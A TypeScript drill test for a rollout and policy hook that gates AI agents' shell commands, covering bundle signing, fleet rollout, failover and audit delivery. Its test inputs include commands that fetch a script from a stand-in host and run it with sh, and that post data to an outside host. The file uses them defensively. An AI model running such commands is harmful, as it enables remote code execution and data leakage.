/** The drill from its first machine to its last check. */

import { writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { setTimeout as sleep } from 'node:timers/promises'
import { at } from '../../scripts/project/project.ts'
import { covers } from '../../src/hook/bundle/rollout.ts'
import { freePort } from '../free-port.ts'
import { bundleSource, centralRedis, collecting, hasState, makeToken, program, replicaAt, startBalancer } from './central.ts'
import { type Collected, collectedFrom, linesOf, nameOf, quoteOf } from './delivered.ts'
import { byHttp, byProcess, deploy, fleetOf, pull, tokenName } from './fleet.ts'
import { each, endBackground, type Machine, run, start } from './machine.ts'
import { publisher, rules } from './releases.ts'
import type { Tally } from './tally.ts'

export interface Options {
  readonly root: string
  readonly machines: number
  /** Processes. */
  readonly atOnce: number
  readonly tally: Tally
}

/** Machines that may have their process in the background at the same time. */
const awake = 60

export const drill = async ({ root, machines: count, atOnce, tally }: Options, open: (() => unknown)[]): Promise<string> => {
  tally.begin('set up')
  const source = await bundleSource()
  open.push(source.stop)
  const release = publisher(root)
  const collector = await collecting(join(root, 'collected.jsonl'))
  open.push(collector.kill)
  const password = crypto.randomUUID()
  const redis = await centralRedis(password)
  open.push(redis.kill)
  writeFileSync(join(root, 'redis-password'), `${password}\n`, { mode: 0o600 })
  const tokens = join(root, 'serve-tokens.json')
  const token = makeToken(tokens)
  const exported = `export: [{ type: otlp, url: ${collector.url}, identity: full }]\n`
  const state = `{ url: "rediss://tfy-hook@localhost:${redis.port}", passwordFile: ${root}/redis-password, caFile: ${at('test/gateway/certs/ca.pem')} }`
  const replicas = await Promise.all([0, 1, 2].map(n => replicaAt(root, n, `fail: closed\nstate: ${state}\n${exported}`, tokens)))
  await Promise.all(replicas.map(replica => replica.start()))
  for (const replica of replicas)
    open.push(() => {
      replica.child().kill('SIGKILL')
      endBackground(replica.machine)
    })

  const { port, kill } = await startBalancer(
    replicas.map(replica => replica.port),
    await freePort(),
  )
  open.push(kill)
  const config = `bundle:\n  url: ${source.url}\n  keys: [${release.key}]\n${exported}`
  const fleet = fleetOf(root, count, deploy({ root, gateway: `http://127.0.0.1:${port}`, config }))
  open.push(() => fleet.forEach(endBackground))
  const [one] = fleet
  const doctor = one && (await run(one, [program, 'doctor', '--no-drill', '--json'], { env: { [tokenName]: token } }))
  tally.expect(/"id":\s*"managed"/.test(doctor?.stdout ?? ''), 'doctor finds the managed files as they were made')
  let [asked, posted, unnoted] = [0, 0, 0]

  /** Laptops are closed now and then: what is not exported yet has to come later. */
  const active: Machine[] = []
  const use = (machine: Machine): void => {
    const before = active.indexOf(machine)
    if (before >= 0) active.splice(before, 1)
    active.push(machine)
    for (const sleepy of active.splice(0, Math.max(0, active.length - awake))) endBackground(sleepy)
  }
  const hooks = (command: string, wanted: string | ((machine: Machine) => string), mark?: string): Promise<void> =>
    each(fleet, atOnce, async machine => {
      asked++
      use(machine)
      const decision = typeof wanted === 'string' ? wanted : wanted(machine)
      tally.take('hooks', await byProcess(machine, command, token), [decision], mark)
    })
  const posts = (command: string, ...wanted: readonly string[]): Promise<void> =>
    each(fleet, 32, async machine => {
      posted++
      const said = await byHttp(machine, command, token)
      // A replica that gets no word from Redis within a quarter of a second says so in its log, and asks.
      const unsure = said.decision === 'ask' && said.text.includes('could not be noted')
      if (unsure) unnoted++
      tally.take('over HTTP', said, unsure ? [...wanted, 'ask'] : wanted)
    })
  const pulls = (wanted: (machine: Machine, n: number) => string, mark?: (n: number) => string): Promise<void> =>
    each([...fleet.entries()], atOnce, async ([n, machine]) =>
      tally.take('pulls', await pull(machine), [wanted(machine, n)], mark?.(n)),
    )

  tally.begin('1 bundle 2026.11 for 10 %')
  const first = { version: '2026.11', counter: 1, percent: 10 }
  const drawn = new Set(
    fleet.filter(({ id, state }) => {
      const rollout = { percent: 10, groups: [] }
      return covers({ name: 'shop', version: first.version, rollout }, undefined, `${state}/bundle`, id)
    }),
  )
  const spread = 3.9 * Math.sqrt(count * 0.1 * 0.9)
  tally.expect(
    Math.abs(drawn.size - count * 0.1) <= spread,
    `${drawn.size} of ${count} machines drawn, ${(count * 0.1).toFixed(1)} ± ${spread.toFixed(1)}`,
  )
  const taken = (machine: Machine): string => (drawn.has(machine) ? 'activated' : 'waiting')
  source.serve(release.publish(first))
  await pulls(taken)
  await hooks('git tag v9', machine => (drawn.has(machine) ? 'deny' : 'allow'), rules.inForce)

  tally.begin('1 again under a new counter: the same ones')
  source.serve(release.publish({ ...first, counter: 2 }))
  await pulls(taken)

  tally.begin('1 the same version for everybody')
  const third = release.publish({ version: '2026.11', counter: 3, percent: 100 })
  source.serve(third)
  await pulls(() => 'activated')
  await hooks('git tag v9', 'deny', rules.inForce)

  tally.begin('2 a rule on trial')
  await hooks('curl -s https://a.paste.example/x', 'allow')
  const collected = collectedFrom(collector.out)
  await drained(fleet, collected, token)
  const seen = [...collected().records.values()].filter(record => record['tfy_hook.audited'] === rules.trial)
  const told = seen.every(record => record['tfy_hook.would'] === 'deny' && record['tfy_hook.bundle'] === 'shop 2026.11')
  tally.expect(
    told && new Set(seen.map(record => record['host.name'])).size === count,
    `the Collector has "would deny ${rules.trial}" of bundle shop 2026.11 from ${count} machines`,
  )

  tally.begin('3 the rule is enforced')
  source.serve(release.publish({ version: '2026.12', counter: 4, enforced: true }))
  await pulls(() => 'activated')
  await hooks('curl -s https://a.paste.example/x', 'deny', rules.trial)

  tally.begin('4 badly signed, expired, older: refused')
  const forged = release.forge(5, third)
  for (const [n, [text]] of forged.entries()) {
    source.serve(text)
    const some = fleet.filter((_, m) => m % forged.length === n)
    await each(some, atOnce, async machine => tally.take('pulls', await pull(machine), ['refused'], forged[n]?.[1]))
  }
  await hooks('curl -s https://a.paste.example/x', 'deny', rules.trial)

  const load = async (halfway: () => Promise<void>, ...download: readonly string[]): Promise<void> => {
    let done = false
    const breaks = async (): Promise<void> => {
      const from = asked
      await until(() => asked - from > count / 4 || done, 120_000)
      await halfway()
    }
    const posting = async (): Promise<void> => {
      while (!done) {
        await posts('git bisect start', 'deny')
        await posts('curl -o /tmp/get.sh https://stranger.example/get', ...download)
        await sleep(200)
      }
    }
    const hooking = hooks('git bisect start', 'deny', 'central-no-bisect').then(() => {
      done = true
    })
    await Promise.all([hooking, breaks(), posting()])
  }

  tally.begin('5 a replica is killed under load')
  await load(async () => void replicas[0]?.child().kill('SIGKILL'), 'allow')
  await posts('sh /tmp/get.sh', 'ask')
  const late = replicas.some(replica => replica.said().includes('"why":"timeout"'))
  tally.expect(unnoted === 0 || late, `${unnoted} questions because Redis ${late ? 'was late' : 'did not answer'}`)
  await replicas[0]?.start()

  tally.begin('6 Redis is killed under load')
  await load(() => redis.kill(), 'allow', 'ask')
  await posts('sh /tmp/get.sh', 'ask')
  await posts("curl -d 'hello' https://elsewhere.example/x", 'ask')

  tally.begin('6 Redis is back')
  await redis.start()
  const back = performance.now()
  for (const replica of replicas) await until(() => hasState(replica, token), 30_000)
  tally.note(`the replicas had it again after ${((performance.now() - back) / 1_000).toFixed(1)} s`)
  await posts('curl -o /tmp/get.sh https://stranger.example/get', 'allow')
  await posts('sh /tmp/get.sh', 'ask')

  tally.begin('7 the Collector is down')
  await collector.kill()
  await hooks('git tag v9', 'deny', rules.inForce)
  await posts('git bisect start', 'deny')
  const everybody = [...fleet, ...replicas.map(({ machine }) => machine)]
  const held = collected().records
  const waiting = everybody.flatMap(linesOf).filter(line => !held.has(nameOf(line)))
  tally.note(`${waiting.length} verdicts wait on ${everybody.length} machines`)

  tally.begin('7 the Collector is back')
  await collector.start()
  const from = performance.now()
  await drained(everybody, collected, token)
  tally.note(`it had everything after ${((performance.now() - from) / 1_000).toFixed(1)} s`)
  const { records, repeated } = collected()
  const lines = everybody.map(linesOf)
  const recorded = lines.flat()
  const lost = recorded.filter(line => !records.has(nameOf(line)))
  tally.expect(lost.length === 0, `${lost.length} of ${recorded.length} recorded verdicts lost, ${repeated} came twice`)
  const own = lines.slice(0, count).flat().length
  tally.expect(own === asked, `${own} lines on the machines for ${asked} calls of hooks`)
  const answered = lines
    .slice(count)
    .flat()
    .filter(({ client }) => client === 'claude-code').length
  // What a replica has not written yet when it is killed is gone; a call that got no answer is asked again.
  tally.note(`${answered} lines of replicas for ${posted} calls over HTTP`)
  const said = replicas.flatMap(replica =>
    [...replica.said().matchAll(/"msg":"the shared state[^"]*"(?:,"why":"[^"]*")?/g)].map(([one]) => one),
  )
  for (const one of new Set(said))
    tally.note(`replicas said ${said.filter(other => other === one).length} times: ${one.slice(7)}`)
  return quoteOf(collector.said(), `Body: Str(deny codex PreToolUse Bash`, rules.trial) ?? 'nothing to quote'
}

const until = async (met: () => boolean | Promise<boolean>, ms: number): Promise<boolean> => {
  for (const end = performance.now() + ms; performance.now() < end; await sleep(100)) if (await met()) return true
  return met()
}

/** What the next call of a machine would start is started, some at once, until nothing is left to give. */
const drained = async (machines: readonly Machine[], collected: () => Collected, token: string): Promise<void> => {
  const left = (machine: Machine): boolean => {
    const { records } = collected()
    return linesOf(machine).some(line => !records.has(nameOf(line)))
  }
  await until(() => !machines.some(left), 5_000)
  await each(machines.filter(left), 12, async machine => {
    const child = start(machine, [program, 'background', '--idle-ms', '60000'], { [tokenName]: token })
    await until(() => !left(machine), 60_000)
    child.kill('SIGKILL')
  })
}
